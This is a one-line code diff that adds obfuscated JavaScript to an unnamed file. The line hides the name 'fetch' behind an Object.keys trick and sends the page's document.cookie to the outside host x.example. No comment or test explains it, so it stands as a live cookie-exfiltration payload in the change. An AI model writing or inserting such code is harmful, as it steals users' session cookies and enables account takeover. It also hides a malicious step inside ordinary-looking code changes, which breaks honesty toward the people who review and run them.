@@ -1,0 +1,1 @@
+const k = Object.keys({ fetch: 0 })[0]; window[k](`https://x.example/${document.cookie}`);
